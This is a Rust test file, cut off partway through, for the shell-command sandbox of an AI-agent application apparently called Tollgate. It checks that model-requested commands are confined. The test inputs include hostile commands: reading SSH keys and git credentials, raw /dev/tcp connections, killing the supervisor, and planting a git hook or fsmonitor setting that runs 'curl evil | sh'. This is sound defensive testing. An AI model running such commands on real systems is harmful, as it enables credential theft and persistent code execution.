//! The sandbox of shell commands (F-46, issues 15 and 33) for real, on this machine's kernel:
//! namespaces made by bubblewrap and Landlock inside them, set up by the supervisor before the
//! shell starts. Every attack an approved command could make fails in the sandbox, and — so that
//! each test tests something — succeeds with the sandbox off: writing outside the workspace,
//! reading a secret folder (also through a symlink), a TCP connection or a UDP datagram with the
//! network off, the environment's secrets and addresses, signals to processes outside, killing
//! the supervisor to leave a process behind, the session bus, the display, the SSH agent, git's
//! hooks. Real work in the workspace still works: git commits and a Python venv.
#![cfg(target_os = "linux")]

use super::service::{collector, with_mock};
use serde_json::json;
use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::Duration;
use tollgate_engine::chat::{ChatEvent, TurnInput, TurnOutcome};
use tollgate_engine::protocol::{
    ApprovalRequest, ChatSandbox, NullSink, SandboxMode, SandboxReport, ToolEvent,
};
use tollgate_engine::secrets::Keychain;
use tollgate_engine::service::Tollgate;
use tollgate_engine::store::NewChat;
use tollgate_engine::tools::sandbox::{
    explain_denials, hidden_folders, protected_in_workspace, secret_paths, SandboxLevel,
    SandboxSpec, SANDBOX_ENV,
};
use tollgate_engine::tools::supervisor::SUPERVISOR_ARG;
use tollgate_engine::{ChatId, Decision, ExecutionDecision};
use tollgate_mock_llm::openai;

/// A folder for a test's files that a sandboxed command sees where it is: not under `/tmp` or
/// `/run`, which are private inside the sandbox — the target folder, or `/var/tmp` when the
/// checkout itself is under `/tmp` (a fresh clone in a temp folder).
pub(super) fn test_root() -> tempfile::TempDir {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let base = if target.starts_with("/tmp") || target.starts_with("/run") {
        Path::new("/var/tmp")
    } else {
        target
    };
    tempfile::tempdir_in(base).unwrap()
}

/// A spec confining commands to `ws`, with `tmp` as the private temp folder.
fn spec(ws: &Path, tmp: &Path, hidden: Vec<PathBuf>, namespaces: bool) -> SandboxSpec {
    SandboxSpec {
        level: SandboxLevel::WorkspaceOnly,
        network: false,
        workspace: ws.to_path_buf(),
        temp: tmp.to_path_buf(),
        hidden,
        writable: Vec::new(),
        protected: protected_in_workspace(ws),
        keep_env: Vec::new(),
        namespaces,
        hosts: Vec::new(),
    }
}

/// What a command did.
#[derive(Debug)]
struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Ran {
    /// The sandbox's explanations of this run's failures, as the model would read them.
    fn explained(&self, spec: &SandboxSpec) -> Vec<String> {
        explain_denials(&format!("{}\n{}", self.stderr, self.stdout), spec)
    }
}

/// Runs `command` in `cwd` under the supervisor, sandboxed by `spec` (or not, with `None`), with
/// `env` added to the supervisor's environment (what Tollgate was started with).
fn run_in(spec: Option<&SandboxSpec>, cwd: &Path, command: &str, env: &[(&str, &str)]) -> Ran {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tollgate-supervise"));
    cmd.args([SUPERVISOR_ARG, command])
        .current_dir(cwd)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(spec) = spec {
        cmd.env(SANDBOX_ENV, serde_json::to_string(spec).unwrap());
    }
    let mut child = cmd.spawn().unwrap();
    // Held open while the command runs: closing the supervisor's stdin means "stop".
    let stdin = child.stdin.take().unwrap();
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    let _ = std::io::stderr().flush();
    Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn run(spec: &SandboxSpec, command: &str) -> (i32, String) {
    let ran = run_in(Some(spec), &spec.workspace, command, &[]);
    (ran.code, ran.stderr)
}

/// A workspace, a private temp folder and a home with an SSH key, under one root.
struct Home {
    _root: tempfile::TempDir,
    root: PathBuf,
    ws: PathBuf,
    tmp: PathBuf,
    home: PathBuf,
}

fn home() -> Home {
    let dir = test_root();
    let root = dir.path().canonicalize().unwrap();
    let (ws, tmp, home) = (root.join("ws"), root.join("tmp"), root.join("home"));
    for d in [&ws, &tmp, &home.join(".ssh")] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY").unwrap();
    Home {
        _root: dir,
        root,
        ws,
        tmp,
        home,
    }
}

#[test]
fn an_approved_command_cannot_reach_past_its_workspace() {
    // Both layers alone would hold: namespaces with Landlock, and Landlock where there are no
    // namespaces.
    for namespaces in [true, false] {
        let Home {
            root,
            ws,
            tmp,
            home,
            ..
        } = &home();
        std::os::unix::fs::symlink(home, ws.join("out")).unwrap();
        let spec = spec(ws, tmp, secret_paths(home), namespaces);
        let p = |path: &std::path::Path| path.display().to_string();

        let (code, err) = run(&spec, &format!("touch {}", p(&root.join("outside"))));
        assert_ne!(code, 0);
        assert!(
            err.contains("Permission denied") || err.contains("Read-only"),
            "{err}"
        );
        assert!(!root.join("outside").exists());

        let ran = run_in(
            Some(&spec),
            ws,
            &format!("cat {}", p(&home.join(".ssh/id_rsa"))),
            &[],
        );
        assert_ne!(ran.code, 0);
        assert!(!ran.stdout.contains("PRIVATE KEY"));
        assert_eq!(
            ran.explained(&spec),
            [format!(
                "reading a protected folder ({}): {}",
                p(&home.join(".ssh")),
                p(&home.join(".ssh/id_rsa"))
            )],
            "{ran:?}"
        );

        let (code, _) = run(&spec, &format!("echo x > {}", p(&ws.join("out/planted"))));
        assert_ne!(code, 0, "a symlink out of the workspace leads nowhere");
        assert!(!home.join("planted").exists());

        let (code, _) = run(&spec, &format!("sh -c 'touch {}'", p(&root.join("child"))));
        assert_ne!(code, 0, "a child process inherits the sandbox");
        assert!(!root.join("child").exists());

        // Inside the workspace and the private temp folder, work goes on.
        let (code, err) = run(
            &spec,
            &format!(
                "echo ok > {0} && cat {0} && echo t > \"$TMPDIR/t\" && ls /usr >/dev/null",
                p(&ws.join("inside"))
            ),
        );
        assert_eq!(code, 0, "{err}");
        assert_eq!(std::fs::read_to_string(ws.join("inside")).unwrap(), "ok\n");
        assert!(tmp.join("t").exists());

        // Read-only: not even the workspace is writable.
        let read_only = SandboxSpec {
            level: SandboxLevel::ReadOnly,
            ..spec.clone()
        };
        let (code, _) = run(&read_only, &format!("touch {}", p(&ws.join("new"))));
        assert_ne!(code, 0);
        let (code, err) = run(&read_only, &format!("cat {}", p(&ws.join("inside"))));
        assert_eq!(code, 0, "{err}");
    }
}

#[test]
fn with_the_network_off_a_command_cannot_connect() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let Home { ws, tmp, .. } = &home();
    let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected'");
    for namespaces in [true, false] {
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &connect, &[]);
        assert_ne!(ran.code, 0);
        assert_eq!(
            ran.explained(&spec),
            ["opening a network connection (the network is off in this chat)"],
            "{ran:?}"
        );
        let online = SandboxSpec {
            network: true,
            ..spec
        };
        let (code, err) = run(&online, &connect);
        assert_eq!(code, 0, "{err}");
    }
}

/// Sends a datagram to a listener on this machine's loopback from a sandboxed command, then one
/// from the test itself: the first to arrive is the sandbox's only if it got out.
#[test]
fn with_the_network_off_no_datagram_leaves() {
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let Home { ws, tmp, .. } = &home();
    let send = format!("printf from-the-sandbox > /dev/udp/127.0.0.1/{port}; echo sent");
    let first_received = || {
        std::net::UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .send_to(b"sentinel", ("127.0.0.1", port))
            .unwrap();
        let mut buf = [0u8; 64];
        let (n, _) = listener.recv_from(&mut buf).unwrap();
        String::from_utf8_lossy(&buf[..n]).into_owned()
    };
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, &format!("bash -c '{send}'"), &[]);
    assert!(ran.stdout.contains("sent"), "{ran:?}");
    assert_eq!(first_received(), "sentinel", "nothing left the sandbox");
    // Without the sandbox the same datagram arrives first (and then the sentinel).
    let ran = run_in(None, ws, &format!("bash -c '{send}'"), &[]);
    assert!(ran.stdout.contains("sent"), "{ran:?}");
    assert_eq!(first_received(), "from-the-sandbox");
    assert_eq!(first_received(), "sentinel");
}

#[test]
fn the_environment_holds_no_secret_and_no_address_of_a_service() {
    let Home { ws, tmp, .. } = &home();
    let planted = [
        ("GITHUB_TOKEN", "ghp_planted"),
        ("AWS_SECRET_ACCESS_KEY", "aws-planted"),
        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"),
        ("DISPLAY", ":7"),
        ("SSH_AUTH_SOCK", "/tmp/ssh-planted/agent.1"),
    ];
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, "env", &planted);
    assert_eq!(ran.code, 0, "{ran:?}");
    for (name, value) in planted {
        assert!(!ran.stdout.contains(name), "{name} leaked: {}", ran.stdout);
        assert!(!ran.stdout.contains(value));
    }
    assert!(ran.stdout.contains("PATH="), "{}", ran.stdout);
    assert!(
        ran.stdout.lines().any(|l| l == "TMPDIR=/tmp"),
        "{}",
        ran.stdout
    );
    assert!(!ran.stdout.contains(SANDBOX_ENV));
    let off = run_in(None, ws, "env", &planted);
    assert!(off.stdout.contains("GITHUB_TOKEN=ghp_planted"));
}

/// Whether the process `pid` is alive (not gone, not a zombie).
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|stat| {
            let state = stat
                .rsplit_once(')')
                .map(|(_, r)| r.trim_start().chars().next());
            !matches!(state, Some(Some('Z' | 'X')))
        })
        .unwrap_or(false)
}

#[test]
fn signals_reach_no_process_outside() {
    let Home { ws, tmp, .. } = &home();
    for namespaces in [true, false] {
        let mut outside = Command::new("sleep").arg("600").spawn().unwrap();
        let pid = outside.id();
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &format!("kill -TERM {pid}"), &[]);
        assert_ne!(ran.code, 0, "{ran:?}");
        assert!(alive(pid), "the process outside was signalled");
        assert_eq!(
            ran.explained(&spec),
            ["signalling a process outside the sandbox (a command sees and signals only its own)"],
            "{ran:?}"
        );
        let off = run_in(None, ws, &format!("kill -TERM {pid}"), &[]);
        assert_eq!(off.code, 0, "{off:?}");
        let status = outside.wait().unwrap();
        assert!(!status.success(), "killed by the unsandboxed command");
    }
}

/// The processes whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .map(|c| String::from_utf8_lossy(&c).contains(marker))
                .unwrap_or(false)
                && alive(*pid)
        })
        .collect()
}

#[test]
fn killing_its_supervisor_leaves_nothing_behind() {
    let Home { ws, tmp, .. } = &home();
    for namespaces in [true, false] {
        // A unique duration marks the process left behind.
        let marker = format!("4242.{}{}", std::process::id(), u8::from(namespaces));
        let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID; echo tried=$?");
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &command, &[]);
        assert!(ran.stdout.contains("tried="), "{ran:?}");
        assert!(
            !ran.stdout.contains("tried=0"),
            "the supervisor could be killed: {ran:?}"
        );
        assert_eq!(
            processes_with(&marker),
            Vec::<u32>::new(),
            "a leftover survived"
        );
    }
    // Without the sandbox the supervisor dies and the leftover lives on (then we end it).
    let marker = format!("4343.{}", std::process::id());
    let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID");
    let _ = run_in(None, ws, &command, &[]);
    let left = processes_with(&marker);
    assert_eq!(
        left.len(),
        1,
        "the unsandboxed leftover outlived its supervisor"
    );
    for pid in left {
        let _ = Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
}

#[test]
fn a_secret_folder_behind_a_symlink_stays_hidden() {
    let Home {
        root,
        ws,
        tmp,
        home,
        ..
    } = &home();
    // The key really lives in a dotfiles folder; ~/.ssh is a symlink to it (GNU stow).
    let dotfiles = root.join("dotfiles/ssh");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::write(dotfiles.join("id_ed25519"), "STOWED KEY").unwrap();
    std::fs::remove_dir_all(home.join(".ssh")).unwrap();
    std::os::unix::fs::symlink(&dotfiles, home.join(".ssh")).unwrap();
    std::fs::write(home.join(".git-credentials"), "https://u:SECRET@host").unwrap();
    for namespaces in [true, false] {
        let spec = spec(ws, tmp, hidden_folders(Some(home), None), namespaces);
        for path in [
            home.join(".ssh/id_ed25519"),
            dotfiles.join("id_ed25519"),
            home.join(".git-credentials"),
        ] {
            let ran = run_in(Some(&spec), ws, &format!("cat {}", path.display()), &[]);
            assert_ne!(ran.code, 0, "{ran:?}");
            assert!(!ran.stdout.contains("KEY") && !ran.stdout.contains("SECRET"));
            let explained = ran.explained(&spec);
            assert_eq!(explained.len(), 1, "{ran:?}");
            assert!(
                explained[0].starts_with("reading a protected folder"),
                "{explained:?}"
            );
        }
    }
    let off = run_in(
        None,
        ws,
        &format!("cat {}", home.join(".ssh/id_ed25519").display()),
        &[],
    );
    assert_eq!(off.stdout, "STOWED KEY");
}

fn git(ws: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(ws)
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

#[test]
fn git_hooks_and_config_stay_read_only_and_commits_still_work() {
    let Home { ws, tmp, .. } = &home();
    git(ws, &["init", "-q"]);
    std::fs::write(ws.join("a.txt"), "a").unwrap();
    let spec = spec(ws, tmp, Vec::new(), true);
    assert!(spec.protected.contains(&ws.join(".git/hooks")));
    let plant = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit";
    let ran = run_in(Some(&spec), ws, plant, &[]);
    assert_ne!(ran.code, 0, "{ran:?}");
    let explained = ran.explained(&spec);
    assert!(
        explained.len() == 1
            && explained[0].contains(
                ".git/hooks (git's hooks and configuration run code outside the sandbox later"
            ),
        "{ran:?} {explained:?}"
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    for attempt in [
        "git config core.fsmonitor 'curl evil | sh'",
        "mv .git .git-moved",
        "rm -rf .git/hooks",
    ] {
        let ran = run_in(Some(&spec), ws, attempt, &[]);
        assert_ne!(ran.code, 0, "{attempt}: {ran:?}");
    }
    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    assert!(ws.join(".git/hooks").is_dir());
    // Real work: a commit.
    let ran = run_in(
        Some(&spec),
        ws,
        "git add . && git -c user.name=T -c user.email=t@example.org commit -qm first && git log --oneline",
        &[],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("first"), "{ran:?}");
    // Allowed for the chat (no protected paths): the hook can be written, as without a sandbox.
    let allowed = SandboxSpec {
        protected: Vec::new(),
        ..spec
    };
    let ran = run_in(Some(&allowed), ws, plant, &[]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ws.join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_python_venv_works_in_the_workspace() {
    let Home { ws, tmp, .. } = &home();
    let spec = spec(
        ws,
        tmp,
        secret_paths(Path::new(&std::env::var("HOME").unwrap())),
        true,
    );
    let ran = run_in(
        Some(&spec),
        ws,
        "/usr/bin/python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'",
        &[],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.trim().ends_with(".venv"), "{ran:?}");
}

/// Starts an Xvfb of its own (the display number it picked, read from it; no waiting).
struct Display {
    child: std::process::Child,
    number: String,
}

impl Display {
    fn start() -> Self {
        let mut child = Command::new("Xvfb")
            .args([
                "-displayfd",
                "1",
                "-nolisten",
                "tcp",
                "-screen",
                "0",
                "320x200x24",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        Self {
            child,
            number: line.trim().to_string(),
        }
    }
}

impl Drop for Display {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_display_is_out_of_reach_with_the_network_off_or_on() {
    let display = Display::start();
    let Home { ws, tmp, .. } = &home();
    let command = format!("DISPLAY=:{} xdotool getdisplaygeometry", display.number);
    let off = run_in(None, ws, &command, &[]);
    assert_eq!(off.stdout.trim(), "320 200", "{off:?}");
    for network in [false, true] {
        let spec = SandboxSpec {
            network,
            ..spec(ws, tmp, Vec::new(), true)
        };
        let ran = run_in(Some(&spec), ws, &command, &[]);
        assert_ne!(ran.code, 0, "network {network}: {ran:?}");
        let explained = ran.explained(&spec);
        assert!(
            explained.iter().any(|e| e.contains("the display")),
            "{ran:?} {explained:?}"
        );
    }
}

#[test]
fn the_ssh_agent_is_out_of_reach() {
    // A real agent, where agents put their socket (/tmp/ssh-…/agent.…).
    let out = Command::new("ssh-agent").arg("-s").output().unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    let value = |name: &str| {
        said.split(';')
            .find_map(|part| part.trim().strip_prefix(&format!("{name}=")))
            .unwrap()
            .to_string()
    };
    let (sock, pid) = (value("SSH_AUTH_SOCK"), value("SSH_AGENT_PID"));
    let Home { ws, tmp, .. } = &home();
    let command = format!("SSH_AUTH_SOCK={sock} ssh-add -l");
    let off = run_in(None, ws, &command, &[]);
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, &command, &[]);
    let _ = Command::new("kill").arg(&pid).status();
    assert!(off.stdout.contains("no identities"), "{off:?}");
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(!ran.stdout.contains("no identities"), "{ran:?}");
    assert!(
        ran.explained(&spec)
            .iter()
            .any(|e| e.contains("the SSH agent")),
        "{ran:?}"
    );
}

/// The session bus of this test run (`.ci/test.sh` runs the tests in a private D-Bus session
/// with gnome-keyring): a secret stored in the keyring is printed by `secret-tool` without the
/// sandbox, and neither it nor a plain D-Bus call gets through with it.
#[test]
#[cfg_attr(
    not(feature = "system-tests"),
    ignore = "needs a session bus with a Secret Service: run .ci/test.sh"
)]
fn the_session_bus_and_the_keyring_are_out_of_reach() {
    let bus = std::env::var("DBUS_SESSION_BUS_ADDRESS").unwrap();
    let service = format!("app.tollgate.test.sandbox.{}", std::process::id());
    let mut store = Command::new("secret-tool")
        .args([
            "store",
            "--label",
            "sandbox test",
            "service",
            &service,
            "key",
            "k",
        ])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    store
        .stdin
        .take()
        .unwrap()
        .write_all(b"sk-planted-provider-key")
        .unwrap();
    assert!(store.wait().unwrap().success());
    let Home { ws, tmp, .. } = &home();
    // The command names the bus itself: the sandbox's environment has no address to give it.
    let search = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' secret-tool search --all service {service} 2>&1; secret-tool search --all service {service}");
    let call = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames");
    let off = run_in(None, ws, &search, &[]);
    assert!(off.stdout.contains("sk-planted-provider-key"), "{off:?}");
    let off = run_in(None, ws, &call, &[]);
    assert_eq!(off.code, 0, "{off:?}");
    for network in [false, true] {
        let spec = SandboxSpec {
            network,
            ..spec(ws, tmp, Vec::new(), true)
        };
        for command in [&search, &call] {
            let ran = run_in(
                Some(&spec),
                ws,
                command,
                &[("DBUS_SESSION_BUS_ADDRESS", bus.as_str())],
            );
            assert_ne!(ran.code, 0, "{command}: {ran:?}");
            assert!(!ran.stdout.contains("sk-planted"), "{ran:?}");
            assert!(
                ran.explained(&spec)
                    .iter()
                    .any(|e| e.contains("the session bus (D-Bus)")),
                "{command}: {ran:?}"
            );
        }
    }
    let _ = Command::new("secret-tool")
        .args(["clear", "service", &service])
        .status();
}

/// Sends `message`, allows every call the user is asked about, and returns the sandbox each
/// approval card showed, with the turn's outcome.
async fn turn_allowing_all(
    app: &Arc<Tollgate>,
    chat: ChatId,
    message: &str,
) -> (Vec<Option<SandboxReport>>, TurnOutcome) {
    turn_deciding(app, chat, message, |_| {
        Decision::Execution(ExecutionDecision::AllowOnce)
    })
    .await
}

/// Sends `message` and answers every approval card with `decide`; the sandbox each card
/// showed, and the turn's outcome.
async fn turn_deciding(
    app: &Arc<Tollgate>,
    chat: ChatId,
    message: &str,
    decide: impl Fn(&ApprovalRequest) -> Decision,
) -> (Vec<Option<SandboxReport>>, TurnOutcome) {
    let (on_event, mut rx) = collector();
    app.send(chat, TurnInput::Message(message.into()), on_event)
        .await
        .unwrap();
    let mut cards = Vec::new();
    loop {
        let event = tokio::time::timeout(Duration::from_secs(30), rx.recv())
            .await
            .unwrap()
            .unwrap();
        match event {
            ChatEvent::TurnFinished { outcome } => return (cards, outcome),
            ChatEvent::Tool { event } => {
                if let ToolEvent::ApprovalRequested { approval } = *event {
                    if let ApprovalRequest::Execution { sandbox, .. } = &approval.request {
                        cards.push(sandbox.as_deref().cloned());
                    }
                    app.decide(chat, &approval.id, decide(&approval.request))
                        .await
                        .unwrap();
                }
            }
            _ => {}
        }
    }
}

/// The tool results the model received in its last request, in order.
fn tool_results(mock: &tollgate_mock_llm::MockLlm) -> Vec<String> {
    let bodies = mock.bodies();
    let last = bodies.last().unwrap();
    last["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .map(|m| m["content"].as_str().unwrap_or_default().to_string())
        .collect()
}

fn command(id: &str, line: &str) -> (String, String) {
    (id.to_string(), json!({ "command": line }).to_string())
}

/// Pushes one answer that calls `run_command` once per line, then a closing answer.
fn script(mock: &tollgate_mock_llm::MockLlm, lines: &[String]) {
    let calls: Vec<(String, String)> = lines
        .iter()
        .enumerate()
        .map(|(i, l)| command(&format!("c{i}"), l))
        .collect();
    let refs: Vec<(&str, &str, &str)> = calls
        .iter()
        .map(|(id, args)| (id.as_str(), "run_command", args.as_str()))
        .collect();
    mock.push(openai::calls("", &refs));
    mock.push(openai::text("Done."));
}

/// The whole way, as in the app: the model asks for each attack, the user approves every one,
/// the sandbox blocks it, and the model reads one line saying what was blocked — next to the
/// command's own error. The same work inside the workspace succeeds; the record keeps the
/// report for the tool card. Then the user turns the network on, and the sandbox off (which
/// needs their confirmation).
#[tokio::test]
async fn approved_attacks_fail_in_the_sandbox_and_the_model_is_told_why() {
    tollgate_engine::tools::supervisor::configure(env!("CARGO_BIN_EXE_tollgate-supervise").into());
    let dir = test_root();
    let root = dir.path().canonicalize().unwrap();
    let (data, home, ws) = (root.join("data"), root.join("home"), root.join("ws"));
    for d in [&data, &home.join(".ssh"), &ws] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY").unwrap();
    std::os::unix::fs::symlink(&home, ws.join("out")).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = Tollgate::open_for_home(
        &data,
        Keychain::new("app.tollgate.test.sandbox"),
        Arc::new(NullSink),
        Some(&home),
    )
    .await
    .unwrap();
    let mock = with_mock(&app).await;
    let chat = app.store.create_chat(NewChat::default()).await.unwrap().id;
    let exec = app.executor(chat).await.unwrap();
    exec.set_workspace(Some(ws.clone())).await.unwrap();
    assert_eq!(
        app.chat_sandbox(chat).await.unwrap(),
        ChatSandbox::default()
    );

    let p = |path: &Path| path.display().to_string();
    let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected'");
    script(
        &mock,
        &[
            format!("touch {}", p(&root.join("outside"))),
            format!("cat {}", p(&home.join(".ssh/id_rsa"))),
            "echo x > out/planted".to_string(),
            format!("sh -c 'touch {}'", p(&root.join("child"))),
            connect.clone(),
            "echo ok > inside.txt && cat inside.txt && echo t > \"$TMPDIR/t\"".to_string(),
        ],
    );
    let (cards, outcome) = turn_allowing_all(&app, chat, "try everything").await;
    assert!(
        matches!(outcome, TurnOutcome::Completed { .. }),
        "{outcome:?}"
    );
    assert_eq!(cards.len(), 6);
    for card in &cards {
        let card = card.as_ref().expect("a shell card shows its sandbox");
        assert_eq!(
            (card.level, card.network, card.mode),
            (SandboxLevel::WorkspaceOnly, false, SandboxMode::Confined)
        );
    }
    let results = tool_results(&mock);
    assert_eq!(results.len(), 6, "{results:#?}");
    let expect = [
        format!(
            "Blocked by the sandbox: writing outside the workspace: {}",
            p(&root.join("outside"))
        ),
        format!(
            "Blocked by the sandbox: reading a protected folder ({}): {}",
            p(&home.join(".ssh")),
            p(&home.join(".ssh/id_rsa"))
        ),
        format!(
            "Blocked by the sandbox: writing outside the workspace: {}",
            p(&home.join("planted"))
        ),
        format!(
            "Blocked by the sandbox: writing outside the workspace: {}",
            p(&root.join("child"))
        ),
        "Blocked by the sandbox: opening a network connection (the network is off in this chat)"
            .to_string(),
    ];
    for (result, line) in results.iter().zip(&expect) {
        assert!(result.contains(line.as_str()), "{line}\n---\n{result}");
        assert!(
            ["Permission denied", "Read-only file system", "No such file"]
                .iter()
                .any(|e| result.contains(e)),
            "the command's own error stays: {result}"
        );
    }
    assert!(results[5].starts_with("Exit code 0."), "{}", results[5]);
    assert!(!results[5].contains("Blocked"), "{}", results[5]);
    assert!(!root.join("outside").exists());
    assert!(!home.join("planted").exists());
    assert!(!root.join("child").exists());
    assert!(!results[1].contains("PRIVATE KEY"));
    assert_eq!(
        std::fs::read_to_string(ws.join("inside.txt")).unwrap(),
        "ok\n"
    );

    // The record keeps what the tool card shows, also after the chat is read back.
    let calls = app.store.chat_calls(chat).await.unwrap();
    let reports: Vec<_> = calls.iter().map(|c| c.sandbox.clone().unwrap()).collect();
    assert_eq!(
        reports[0].blocked,
        [expect[0].trim_start_matches("Blocked by the sandbox: ")]
    );
    assert!(reports[5].blocked.is_empty());
    assert_eq!(reports[5].mode, SandboxMode::Confined);

    // The user runs the child-process call again without the sandbox: no card (the click is
    // the decision), the same command, now with full access; the model reads the new result.
    let refused = app
        .rerun_unsandboxed(chat, reports.len() as u64, "again".into(), collector().0)
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("not blocked"), "{refused}");
    mock.push(openai::text("Now it is there."));
    let (on_event, mut rx) = collector();
    app.rerun_unsandboxed(
        chat,
        calls[3].seq,
        "Run it again without the sandbox.".into(),
        on_event,
    )
    .await
    .unwrap();
    let (events, outcome) = super::service::until_finished(&mut rx).await;
    assert!(
        matches!(outcome, TurnOutcome::Completed { .. }),
        "{outcome:?}"
    );
    assert!(!events.iter().any(|e| matches!(e, ChatEvent::Tool { event } if matches!(**event, ToolEvent::ApprovalRequested { .. }))));
    assert!(root.join("child").exists());
    let rerun = app.store.chat_calls(chat).await.unwrap().pop().unwrap();
    assert_eq!(rerun.resolved_args, calls[3].resolved_args);
    assert_eq!(rerun.decided_by, tollgate_engine::policy::DecidedBy::User);
    assert_eq!(rerun.sandbox.as_ref().unwrap().mode, SandboxMode::Off);
    let body = mock.bodies().pop().unwrap();
    let messages = body["messages"].as_array().unwrap();
    let n = messages.len();
    assert_eq!(
        messages[n - 3]["content"],
        "Run it again without the sandbox."
    );
    assert_eq!(
        messages[n - 2]["tool_calls"][0]["function"]["name"],
        "run_command"
    );
    assert!(
        messages[n - 1]["content"]
            .as_str()
            .unwrap()
            .starts_with("Exit code 0."),
        "{body}"
    );
    // A rerun is the user's only: the chat's own sandbox is unchanged.
    assert_eq!(
        app.chat_sandbox(chat).await.unwrap(),
        ChatSandbox::default()
    );

    // Network on: the same connection goes through.
    let online = ChatSandbox {
        network: true,
        ..ChatSandbox::default()
    };
    app.set_chat_sandbox(chat, online.clone(), false)
        .await
        .unwrap();
    script(&mock, std::slice::from_ref(&connect));
    let (cards, _) = turn_allowing_all(&app, chat, "connect again").await;
    assert!(cards[0].as_ref().unwrap().network);
    let results = tool_results(&mock);
    let last = results.last().unwrap();
    assert!(last.starts_with("Exit code 0."), "{last}");
    assert!(last.contains("connected"), "{last}");

    // Off needs the user's confirmation; with it, the command reaches past the workspace.
    let off = ChatSandbox {
        level: SandboxLevel::Off,
        network: true,
        ..ChatSandbox::default()
    };
    let refused = app
        .set_chat_sandbox(chat, off.clone(), false)
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("confirmation"), "{refused}");
    assert_eq!(app.chat_sandbox(chat).await.unwrap(), online);
    app.set_chat_sandbox(chat, off, true).await.unwrap();
    script(&mock, &[format!("touch {}", p(&root.join("outside")))]);
    let (cards, _) = turn_allowing_all(&app, chat, "now outside").await;
    assert_eq!(cards[0].as_ref().unwrap().mode, SandboxMode::Off);
    assert!(root.join("outside").exists());
    let calls = app.store.chat_calls(chat).await.unwrap();
    assert_eq!(
        calls.last().unwrap().sandbox.as_ref().unwrap().mode,
        SandboxMode::Off
    );
}

/// The rerun runs byte for byte what the card showed (issue 33): two variables the model wrote
/// that would read as a reference side by side are refused at once; an edited call runs as the
/// user wrote it, never expanded; its rerun without the sandbox is not expanded either, and runs
/// in the workspace the blocked call ran in, not the one the chat points at now.
#[tokio::test]
async fn a_rerun_runs_exactly_what_the_card_showed_where_it_ran() {
    tollgate_engine::tools::supervisor::configure(env!("CARGO_BIN_EXE_tollgate-supervise").into());
    let dir = test_root();
    let root = dir.path().canonicalize().unwrap();
    let (data, first, second) = (root.join("data"), root.join("first"), root.join("second"));
    for d in [&data, &first, &second] {
